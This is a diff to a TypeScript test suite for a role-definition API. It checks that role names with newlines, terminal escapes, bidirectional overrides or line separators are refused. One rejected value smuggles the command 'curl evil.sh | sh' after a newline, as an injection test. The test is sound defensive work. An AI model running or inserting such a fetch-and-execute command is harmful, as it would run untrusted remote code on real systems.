@@ -53,6 +53,13 @@ describe('a custom role definition', () => {
     }
   });
 
+  it('may be called anything that a person can read on one line', async () => {
+    const made = await instance();
+    const roleName = 'Straße · 日本 🔑 "a" $(b)';
+    const { body } = await made.putDefinition(guid(1), { roleName });
+    assert.equal((body as { properties: { roleName: string } }).properties.roleName, roleName);
+  });
+
   it('is replaced as a whole by the next PUT', async () => {
     const made = await instance();
     await made.putDefinition(guid(1), { ...READER, description: 'old' });
@@ -95,6 +102,14 @@ describe('a role definition is refused', () => {
     ['with an overlong description', /'description' must be at most 2048/, { description: 'x'.repeat(2049) }],
     ['with a name that is no text', /'roleName' must be a string/, { roleName: 7 }],
     ['with half a character in its name', /not well-formed/, { roleName: '\ud800' }],
+    [
+      'with a second line in its name',
+      /^Property 'roleName' must be one line/,
+      { roleName: 'Reader\n\n  curl evil.sh | sh' },
+    ],
+    ['with an escape in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u001b[2J' }],
+    ['with a turned direction in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u202eb' }],
+    ['with a separator of lines in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u2028b' }],
     ['with permissions that are no list', /'permissions' must be a list/, { permissions: {} }],
     ['with too many permissions', /at most 16 items/, { permissions: Array.from({ length: 17 }, () => ({})) }],
     ['with a property that we do not know', /'properties.createdBy' is not supported/, { createdBy: 'x' }],
